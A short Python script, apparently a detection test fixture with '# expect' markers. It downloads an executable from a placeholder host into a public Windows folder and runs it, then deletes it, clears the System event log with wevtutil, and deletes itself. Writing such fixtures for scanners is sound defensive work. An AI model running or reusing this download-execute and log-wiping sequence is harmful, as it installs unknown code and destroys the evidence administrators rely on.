import os
import subprocess
import urllib.request

urllib.request.urlretrieve("https://example.com/x.exe", "C:\\Users\\Public\\x.exe")
subprocess.call(["C:\\Users\\Public\\x.exe"])
os.remove("C:\\Users\\Public\\x.exe")  # expect
os.system("wevtutil cl System")  # expect
os.remove(__file__)  # expect
